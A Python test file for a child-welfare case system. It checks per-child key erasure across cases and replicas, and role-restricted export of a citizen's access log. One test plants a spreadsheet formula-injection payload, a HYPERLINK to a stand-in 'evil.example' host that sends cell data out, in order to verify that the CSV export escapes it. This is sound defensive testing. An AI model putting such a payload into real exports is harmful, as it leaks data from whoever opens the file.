"""Personal data per child: one key for all of a child's cases, erased everywhere at once,
and the access log exported per citizen."""

from __future__ import annotations

import csv
import io
import random
from typing import Any
from uuid import UUID

import samspil_contracts as wire
from authority.app.personal import ERASED_NAME
from authority.bootstrap import AuthoritySettings, services_for

from .conftest import Stack, eventually
from .flows import decision_body, framework_in_force
from .test_records import sql

PROVIDER = UUID("00000000-0000-4000-8000-0000000000b7")


def invented_cpr() -> str:
    return f"2105{random.randint(10, 99)}-{random.randint(1000, 9999)}"


async def open_for(stack: Stack, cw: dict[str, str], child: str, parent: str) -> str:
    body = {
        "child": {"name": "Sigrid Holm", "cpr": child},
        "parents": [{"name": "Bo Holm", "cpr": parent}],
        "custody": {"kind": "father"},
        "contact_person": "Karen Caseworker",
    }
    resp = await stack.client.post("/cases", json=body, headers=cw)
    assert resp.status_code == 201, resp.text
    return str(resp.json()["case_id"])


async def child_of(stack: Stack, case_id: str) -> UUID:
    [(child,)] = await sql(
        stack, "select child_id from case_children where case_id = :c", c=case_id
    )
    return UUID(str(child))


async def order_for(stack: Stack, case_id: str, cw: dict[str, str], tl: dict[str, str]) -> None:
    post = stack.client.post
    await post(f"/cases/{case_id}/investigation/start", headers=cw)
    await post(f"/cases/{case_id}/investigation/conclude", json={"summary": "S"}, headers=cw)
    proposed = await post(
        f"/cases/{case_id}/decisions",
        json=decision_body("father"),
        headers=cw,
    )
    decision = proposed.json()["decision_id"]
    await post(f"/cases/{case_id}/decisions/{decision}/approve", headers=tl)
    goals = {"goals": [{"area": "school", "text": "Attends school"}], "participants": ["father"]}
    assert (await post(f"/cases/{case_id}/action-plans", json=goals, headers=cw)).is_success
    body: dict[str, Any] = {
        "case_id": case_id,
        "decision_id": decision,
        "provider_id": str(PROVIDER),
        "scope": {"hours": 6, "per": "week"},
        "frequency": {"times": 2, "per": "week"},
        "start": "2030-02-01",
        "expected_duration_months": 6,
    }
    placed = await post("/orders", json=body, headers=cw)
    assert placed.status_code == 201, placed.text


async def test_a_childs_cases_share_one_key_and_erasure_reaches_them_all(stack: Stack) -> None:
    cw, tl = await stack.token("cw-1", "caseworker"), await stack.token("tl-1", "team_leader")
    await framework_in_force(stack, PROVIDER, cw)
    child, parent = invented_cpr(), invented_cpr()
    # Given two cases of one child, one with an order to a provider (the key is granted)
    first, second = (
        await open_for(stack, cw, child, parent),
        await open_for(stack, cw, child, parent),
    )
    other = await open_for(stack, cw, invented_cpr(), parent)
    assert (
        await child_of(stack, first)
        == await child_of(stack, second)
        != await child_of(stack, other)
    )
    child_id = await child_of(stack, first)
    await order_for(stack, first, cw, tl)
    # When a team leader erases the child through the second case
    erased = await stack.erase(second)
    assert erased.status_code == 200, erased.text
    # Then both cases read as erased, the other child's case does not
    for case_id, is_erased in ((first, True), (second, True), (other, False)):
        case = (await stack.client.get(f"/cases/{case_id}", headers=cw)).json()
        assert case["erased"] is is_erased
    assert await sql(stack, "select 1 from child_keys where child_id = :c", c=child_id) == []
    # And ChildDataErased goes out for each case, and a tombstone for the provider's grant
    cases = await stack.records(
        wire.topics.AUTHORITY_CASES,
        lambda found: sum(isinstance(e, wire.ChildDataErased) for _, _, e in found) >= 2,
    )
    erasures = {e.case_id for _, _, e in cases if isinstance(e, wire.ChildDataErased)}
    assert erasures >= {UUID(first), UUID(second)}
    grant = wire.grant_key(PROVIDER, child_id).encode()
    values = await eventually(lambda: raw_values(stack, grant))
    assert values[-1] is None
    assert values[0] is not None
    # And a second erasure of the same case is refused
    again = await stack.client.post(f"/cases/{second}/erase", json={"reason": "Again"}, headers=tl)
    assert again.status_code in (409, 422)
    again = await stack.client.post(
        f"/cases/{second}/erasure-request", json={"reason": "Again"}, headers=tl
    )
    assert again.status_code in (409, 422)


async def test_an_erased_childs_cached_case_is_not_read_in_clear_on_any_replica(
    stack: Stack,
) -> None:
    cw = await stack.token("cw-1", "caseworker")
    case_id = UUID(await open_for(stack, cw, invented_cpr(), invented_cpr()))
    stream = f"case-{case_id}"
    # Given the case read in clear here and on a second replica (its key not held over), so
    # both caches hold the persons in clear
    here = stack.services
    there = services_for(AuthoritySettings(SAMSPIL_ENV="test", database_url=stack.db_url))
    there.kit.keyring.ttl = 0.0
    try:
        for services in (here, there):
            state, _ = await services.cases.load(case_id)
            assert state.child.name == "Sigrid Holm"
            assert services.kit.aggregates.case.cache.get(stream) is not None
        # When the child is erased through this replica
        erased = await stack.erase(case_id)
        assert erased.status_code == 200, erased.text
        # Then this replica dropped its cached state, and neither reads the persons in clear
        assert here.kit.aggregates.case.cache.get(stream) is None
        for services in (here, there):
            state, _ = await services.cases.load(case_id)
            assert state.erased
            assert state.child.name == ERASED_NAME
            assert [p.name for p in state.parents] == []
            assert services.kit.aggregates.case.cache.get(stream) is None
    finally:
        await there.kit.store.engine.dispose()


async def raw_values(stack: Stack, key: bytes) -> list[bytes | None] | None:
    from aiokafka import AIOKafkaConsumer  # noqa: PLC0415

    consumer = AIOKafkaConsumer(
        stack.prefix + wire.topics.AUTHORITY_CHILD_KEYS,
        bootstrap_servers=stack.bootstrap,
        auto_offset_reset="earliest",
        enable_auto_commit=False,
    )
    await consumer.start()
    try:
        batch = await consumer.getmany(timeout_ms=2000)
        found = [r.value for rs in batch.values() for r in rs if r.key == key]
    finally:
        await consumer.stop()
    return found if len(found) >= 2 else None


async def test_the_access_log_is_exported_per_citizen_to_team_leaders(stack: Stack) -> None:
    cw, tl = await stack.token("cw-5", "caseworker"), await stack.token("tl-5", "team_leader")
    parent = invented_cpr()
    # Given a parent on two cases, one revealed and one read, and an unrelated case revealed
    a = await open_for(stack, cw, invented_cpr(), parent)
    b = await open_for(stack, cw, invented_cpr(), parent)
    unrelated = await open_for(stack, cw, invented_cpr(), invented_cpr())
    for case_id in (a, unrelated):
        await stack.client.post(f"/cases/{case_id}/reveal", json={"reason": "Call"}, headers=cw)
    await stack.client.post(f"/cases/{b}/read", json={"reason": "Meeting"}, headers=cw)
    body = {"cpr": parent, "reason": "Request for insight"}
    # When a caseworker asks, it is refused; when a team leader asks, it is given
    refused = await stack.client.post("/citizens/access-log", json=body, headers=cw)
    assert refused.status_code == 403
    rows = (await stack.client.post("/citizens/access-log", json=body, headers=tl)).json()
    # Then it holds every access to the parent's cases, who, what and why, nothing else
    seen = {(r["case_id"], r["what"], r["user_id"], r["reason"], r["relation"]) for r in rows}
    assert seen == {
        (a, "cpr", "cw-5", "Call", "parent"),
        (b, "case_file", "cw-5", "Meeting", "parent"),
    }
    # And as CSV, with the export itself now logged on each case
    exported = await stack.client.post(
        "/citizens/access-log", json={**body, "format": "csv"}, headers=tl
    )
    assert exported.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(exported.text)))
    assert {(r["case_id"], r["what"]) for r in table} >= {(a, "cpr"), (a, "export"), (b, "export")}
    assert parent.replace("-", "") not in exported.text
    unknown = {"cpr": invented_cpr(), "reason": "x", "format": "json"}
    assert (await stack.client.post("/citizens/access-log", json=unknown, headers=tl)).json() == []


async def test_an_exported_cell_a_spreadsheet_would_run_is_written_as_text(stack: Stack) -> None:
    # Given a look at the persons whose stated reason is a spreadsheet formula
    cw, tl = await stack.token("cw-6", "caseworker"), await stack.token("tl-6", "team_leader")
    parent = invented_cpr()
    case_id = await open_for(stack, cw, invented_cpr(), parent)
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
    for reason in (formula, "+1+1", "-2", "@SUM(1)"):
        await stack.client.post(f"/cases/{case_id}/reveal", json={"reason": reason}, headers=cw)
    # When a team leader exports the parent's access log as CSV
    body = {"cpr": parent, "reason": "Request for insight", "format": "csv"}
    exported = await stack.client.post("/citizens/access-log", json=body, headers=tl)
    # Then no cell starts as a formula: each is text with a leading apostrophe
    reasons = [r["reason"] for r in csv.DictReader(io.StringIO(exported.text))]
    assert f"'{formula}" in reasons
    assert not [r for r in reasons if r[:1] in ("=", "+", "-", "@")]
